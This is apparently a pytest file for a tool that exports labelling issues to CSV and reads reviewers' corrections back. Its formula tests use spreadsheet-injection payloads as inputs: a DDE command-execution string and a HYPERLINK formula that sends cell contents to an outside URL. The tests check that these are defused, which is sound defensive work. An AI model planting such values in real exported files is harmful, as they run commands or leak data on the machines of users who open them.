"""The table of issues as CSV, and what is read from it when it was filled in."""

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from conftest import cases
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from review_frames import make_span_frames

from span_label_errors.review.decided import Answer, Decision
from span_label_errors.review.decisions import read_decisions
from span_label_errors.review.marks import RefusedDecisionsError
from span_label_errors.review.spreadsheet import defused, restored, write_issues_csv


def frame_of(rows: list[tuple]) -> pd.DataFrame:
    """Make issues of (id, question, given answer, its start, suggested answer, its start, quality, confidence)."""
    names = [
        "id", "question", "given_answer", "given_start", "suggested_answer", "suggested_start", "label_quality",
        "suggestion_confidence",
    ]  # fmt: skip
    frame = pd.DataFrame(rows, columns=names).astype({"given_start": "Int64", "suggested_start": "Int64"})
    return frame.assign(is_issue=frame.index < 1, fold=frame.index % 3)


def cells_of(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), strict=True))


def fill_in(path: Path, correct: list[str]) -> Path:
    """Save a table of issues as a spreadsheet does, with a column of correct answers."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerows([*row, cell] for row, cell in zip(cells_of(path), ["correct_answer", *correct], strict=True))
    path.write_bytes(out.getvalue().encode("utf-8-sig"))
    return path


def test_csv_bytes(tmp_path):
    rows = [
        ("a", 'Which, "one"\r\nof;\ttwo?', "He", 0, "wrote", 3, 0.1 + 0.2, 1 / 3),
        ("007", "", "Zürich", 22, "", None, 1.0, 0.0),
    ]
    assert write_issues_csv(str(tmp_path / "new" / "i.csv"), frame_of(rows)) == tmp_path / "new" / "i.csv"
    assert (tmp_path / "new" / "i.csv").read_bytes() == (
        "\ufeffid,question,given_answer,given_start,suggested_answer,suggested_start,label_quality,"
        "suggestion_confidence,is_issue,fold\r\n"
        'a,"Which, ""one""\r\nof;\ttwo?",He,0,wrote,3,0.30000000000000004,0.3333333333333333,True,0\r\n'
        "007,,Zürich,22,,,1.0,0.0,False,1\r\n"
    ).encode()


TEXTS = st.text(st.sampled_from("'=+-@,;\"\t\r\n\0 ＝xé😀") | st.characters(exclude_categories=["Cs"]), max_size=8)
FLOATS = st.floats(0, 1)
ROWS = st.tuples(TEXTS, TEXTS, TEXTS, st.integers(0, 2**53), TEXTS, st.none() | st.integers(0, 99), FLOATS, FLOATS)


@settings(cases(60), suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(ROWS, min_size=1, max_size=3))
def test_any_texts_and_numbers_come_back(tmp_path, rows):
    # A start without an answer, or the other way round, is refused.
    rows = [(*row[:3], row[3] if row[2] else None, *row[4:]) for row in rows]
    path = write_issues_csv(tmp_path / "i.csv", frame_of(rows))
    read = [
        (*map(restored, row[:3]), int(row[3] or -1), restored(row[4]), int(row[5] or -1), *map(float, row[6:8]))
        for row in cells_of(path)[1:]
    ]
    assert read == [tuple(-1 if value is None else value for value in row) for row in rows]
    decisions = read_decisions(fill_in(path, ["[no answer]"] * len(rows)))
    given_answers = [(Answer(row[2], row[3]),) if row[2] else () for row in rows]
    assert [(d.id, d.given) for d in decisions] == [(row[0], g) for row, g in zip(rows, given_answers, strict=True)]


# Formulas


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-1", "-", "@SUM(A1)", "\t=1", "\tx", "\r=1", "\r\n=1", "\nx", " =1", "\u00a0=1",
        '=HYPERLINK("https://example.org/?"&A1,"x")', "=cmd|'/c calc'!A0", '=1+2";=1+2', "＝1+1", "＋1", "－1",
        "＠SUM(A1)", "\0=1", "'=1", "''@x", "' =1",
    ],
)  # fmt: skip
def test_no_cell_is_a_formula_and_the_text_comes_back(tmp_path, text):
    path = write_issues_csv(tmp_path / "i.csv", frame_of([(text, text, text, 0, text, 5, 0.5, 0.5)]))
    header, row = cells_of(path)
    assert {name for name, cell in zip(header, row, strict=True) if cell == f"'{text}"} == {
        "id", "question", "given_answer", "suggested_answer",
    }  # fmt: skip
    assert read_decisions(fill_in(path, ["right"])) == [Decision(text, (Answer(text, 0),), (Answer("right"),))]


@pytest.mark.parametrize(
    "text", ["", "'", "''", "'90s", "' x", "a=1", "1922", "(-1)", "–5", "− 5", "[no answer]", " x"]
)
def test_other_texts_stay_as_they_are(text):
    assert defused(text) == restored(text) == text


@given(st.text(st.sampled_from("'=+-@ \t\r\n\0＝xé") | st.characters(exclude_categories=["Cs"])))
def test_every_text_is_restored_as_it_was(text):
    cell = defused(text)
    assert restored(cell) == text
    assert not cell.strip().strip("\0").startswith(tuple("=+-@＝＋－＠"))
    assert not cell.startswith(("\t", "\r", "\n", "\0"))


# As spreadsheets save it

HEADER = "rank,id,given_answer,given_start,correct_answer,correct_start"


def read_csv(tmp_path: Path, content: str) -> list[Decision]:
    (tmp_path / "issues.csv").write_bytes(content.encode("utf-8"))
    return read_decisions(tmp_path / "issues.csv")


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_what_is_filled_in_is_a_decision(tmp_path, delimiter):
    rows = [
        HEADER, "1,a,He,0,Ulysses,", "2,b,He,0,,", "3,c,He,0,[no answer],", "4,d,He,0,He,", "5,e,,,He,3.0",
        "6,f,Oslo,41.0, Oslo ,58", ",,,,,", '7,"a ""b""\r\nc",He,0,"x ""y""\r\nz",', "8,g,He,0,He,26",
    ]  # fmt: skip
    he = (Answer("He", 0),)
    assert read_csv(tmp_path, "\r\n".join(rows).replace(",", delimiter)) == [
        Decision("a", he, (Answer("Ulysses"),)),
        Decision("c", he, ()),
        Decision("d", he, he),
        Decision("e", (), (Answer("He", 3),)),
        Decision("f", (Answer("Oslo", 41),), (Answer("Oslo", 58),)),
        Decision('a "b"\r\nc', he, (Answer('x "y"\r\nz'),)),
        Decision("g", he, (Answer("He", 26),)),
    ]


def test_no_answer_with_a_capital(tmp_path):
    assert read_csv(tmp_path, f"{HEADER}\n1,a,He,0,[No answer],\n") == [Decision("a", (Answer("He", 0),), ())]


def test_last_cells_that_excel_leaves_out_are_empty(tmp_path):
    he = (Answer("He", 0),)
    assert read_csv(tmp_path, f"{HEADER}\n1,a,He,0,It\n2,b,He,0\n") == [Decision("a", he, (Answer("It"),))]


@pytest.mark.parametrize(
    ("cell", "char_start"),
    [("1234", 1234), ("1,234", 1234), ("1.000", 1000), ("12 345", 12345), ("7.0", 7), ("7,00", 7)],
)
def test_offset_is_read_however_a_spreadsheet_shows_numbers(tmp_path, cell, char_start):
    rows = [HEADER.replace(",", ";") + ";index", f"1;a;He;{cell};It;{cell};{cell}"]
    expected = Decision("a", (Answer("He", char_start),), (Answer("It", char_start),), example_index=char_start)
    assert read_csv(tmp_path, "\n".join(rows)) == [expected]


@pytest.mark.parametrize(
    ("row", "message"),
    [
        ("1,a,He,,Ulysses,", "example 'a' \\(row 2\\): expected given_answer and given_start as they were written"),
        ("1,a,He,0,Ulysses,3.5", "expected a whole number in correct_start, found '3.5'"),
        ("1,a,He,-1,Ulysses,", "expected a whole number in given_start, found '-1'"),
        ("1,a,He,0,,7", "fill in correct_answer too"),
    ],
)
def test_unclear_rows_are_refused_by_id(tmp_path, row, message):
    with pytest.raises(RefusedDecisionsError, match=message):
        read_csv(tmp_path, f"{HEADER}\n{row}\n")


# Where every span is labelled

SPANS = "rank,index,id,given_answer,given_start,given_label,suggested_answer,suggested_start,suggested_label,"
SPANS += "place_start,place_end,correct_answer,correct_start,correct_label"
UNDECIDED = "2,5,b,He,0,ORG,,,,0,2,,,\n3,5,b,Oslo,9,LOC,,,,9,13,,,\n"


def acme(class_name: str) -> tuple[Answer, ...]:
    return (Answer("Acme", 8, class_name),)


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        ("Acme,8,LOC,,,,8,12,Acme,,", Decision("a", acme("LOC"), acme("LOC"), 4, (8, 12))),
        ("Acme,8,LOC,,,,8,12,,,ORG", Decision("a", acme("LOC"), acme("ORG"), 4, (8, 12))),
        ("Acme,8,LOC,Acme,8,ORG,8,12,Acme,,ORG", Decision("a", acme("LOC"), acme("ORG"), 4, (8, 12))),
        ("Acme,8,LOC,Acme,8,ORG,8,12,Acme,,LOC", Decision("a", acme("LOC"), acme("LOC"), 4, (8, 12))),
        # Another border: the class stays that of the given span, or is another one.
        ("Acme,8,LOC,,,,8,12,of Acme,,", Decision("a", acme("LOC"), (Answer("of Acme"),), 4, (8, 12))),
        ("Acme,8,LOC,,,,8,12,of Acme,5,ORG", Decision("a", acme("LOC"), (Answer("of Acme", 5, "ORG"),), 4, (8, 12))),
        ("Acme,8,LOC,,,,8,12,[no answer],,", Decision("a", acme("LOC"), (), 4, (8, 12))),
        # A place where nothing is marked.
        (",,,Lima,43,ORG,43,47,Lima,,LOC", Decision("a", (), (Answer("Lima", None, "LOC"),), 4, (43, 47))),
        (",,,Lima,43,LOC,43,47,[no answer],,", Decision("a", (), (), 4, (43, 47))),
        # A row of an example without any, and one that a reviewer has added.
        (",,,,,,0,0,[no answer],,", Decision("a", (), (), 4)),
        (",,,,,,0,0,met,13,ORG", Decision("a", (), (Answer("met", 13, "ORG"),), 4)),
        (",,,,,,,,met,13,ORG", Decision("a", (), (Answer("met", 13, "ORG"),), 4, (13, 16))),
    ],
)
def test_row_is_a_decision_about_one_span_or_place(tmp_path, row, expected):
    assert read_csv(tmp_path, f"{SPANS}\n1,4,a,{row}\n{UNDECIDED}") == [expected]


def test_two_rows_of_one_example_are_two_decisions(tmp_path):
    rows = ["1,4,a,Acme,8,LOC,,,,8,12,,,ORG", "2,4,a,,,,Lima,43,ORG,43,47,Lima,,ORG"]
    assert [decision.place for decision in read_csv(tmp_path, "\n".join([SPANS, *rows]))] == [(8, 12), (43, 47)]


def test_column_of_correct_classes_is_enough(tmp_path):
    header = "id,given_answer,given_start,given_label,place_start,place_end,correct_label"
    rows = f"{header}\na,Acme,8,LOC,8,12,ORG\nb,He,0,ORG,0,2,\nc,He,0,ORG,0,2\n"
    assert read_csv(tmp_path, rows) == [Decision("a", acme("LOC"), acme("ORG"), None, (8, 12))]


@pytest.mark.parametrize(
    ("row", "message"),
    [
        ("Acme,8,LOC,,,,8,12,,,Org", r"one of the classes \['LOC', 'ORG'\] in .*, found 'Org'; .* keep the other rows"),
        (
            ",,,Lima,43,LOC,43,47,,,LOC",
            "expected the span whose class is 'LOC', found none; fill in correct_answer too",
        ),
        ("Acme,8,LOC,,,,8,12,[no answer],,ORG", r"expected no class beside \[no answer\], found 'ORG'"),
        # Taken over from the suggestion, the text alone would confirm the given class.
        ("Acme,8,LOC,Acme,8,ORG,8,12,Acme,,", "whether 'Acme' is 'LOC', as given, or 'ORG', as suggested; fill in"),
        ("Acme,8,LOC,,,,8,12,,9,", "fill in correct_answer too"),
    ],
)
def test_unclear_rows_about_spans_are_refused(tmp_path, row, message):
    with pytest.raises(RefusedDecisionsError, match=message):
        read_csv(tmp_path, f"{SPANS}\n1,4,a,{row}\n{UNDECIDED}")


def test_classes_that_look_like_formulas_come_back(tmp_path):
    issues, _ = make_span_frames(
        {"context": "Anna met Bo", "given": [("Anna", "=1+1")], "rows": [("Anna", ("Anna", "-x"))]},
        classes=("=1+1", "-x"),
    )
    path = write_issues_csv(tmp_path / "i.csv", issues)
    header, row = cells_of(path)
    assert (row[header.index("given_label")], row[header.index("suggested_label")]) == ("'=1+1", "'-x")
    text = path.read_text(encoding="utf-8-sig").replace("example_quality", "example_quality,correct_label")
    path.write_text(text.rstrip() + ",'-x\n", encoding="utf-8")
    given = Answer("Anna", 0, "=1+1")
    assert read_decisions(path) == [Decision("s0", (given,), (given._replace(class_name="-x"),), 0, (0, 4))]
